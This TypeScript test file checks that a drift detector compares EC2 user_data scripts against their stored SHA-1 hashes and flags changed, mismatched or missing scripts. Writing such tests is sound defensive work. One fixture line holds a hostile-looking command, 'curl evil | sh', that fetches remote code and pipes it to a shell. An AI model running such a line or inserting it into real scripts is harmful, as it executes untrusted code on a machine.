import { expect, test } from 'vitest';
import { observedOf } from '../../../testkit/drift-observed.ts';
import { findDrift } from '../../../testkit/find-drift.ts';

const SCRIPT = '#!/bin/sh\necho hello\n';
/** `printf '#!/bin/sh\necho hello\n' | sha1sum` */
const HASH = '9db6f074fca0a903137b91c7c866b21d4e7205a7';

test.each([
  ['takes a text and its hash for one: the state is of hashicorp/aws 5, the provider 6', HASH, SCRIPT, []],
  ['takes a hash and its text for one: the state is of hashicorp/aws 6, the provider 5', SCRIPT, HASH, []],
  ['reports another text than the one that was hashed', HASH, '#!/bin/sh\ncurl evil | sh\n', ['user_data']],
  ['reports another hash', HASH, 'da39a3ee5e6b4b0d3255bfef95601890afd80709', ['user_data']],
  ['reports a text that is gone', HASH, null, ['user_data']],
])('%s', (_title, before, live, drift) => {
  const sides = { before: { id: 'i-1', user_data: before }, live: { id: 'i-1', user_data: live } };
  const observed = observedOf(
    { address: 'aws_instance.a', ...sides },
    { aws_instance: { id: ['string', 'oc'], user_data: ['string', 'oc'] } },
  );
  expect(findDrift([observed]).flatMap(({ differences }) => differences.map(({ path }) => path.join('.')))).toEqual(
    drift,
  );
});
